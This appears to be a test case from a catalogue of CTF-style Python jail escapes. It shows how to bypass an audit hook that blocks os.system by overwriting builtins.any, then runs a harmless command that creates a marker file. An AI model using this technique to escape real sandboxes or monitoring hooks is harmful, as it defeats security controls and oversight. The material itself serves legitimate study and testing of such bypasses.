"""An audit hook calls a builtin, which is replaced.

Known from: CTF jails with an audit hook (any() and print() replaced)
Effect: made
Host: import sys
Host: def hook(event, args):
Host:     if any(word in event for word in ("os.system", "os.exec")): raise RuntimeError("jail")
Host: sys.addaudithook(hook)
"""
import builtins
import os

builtins.any = lambda words: False
os.system(": > made")
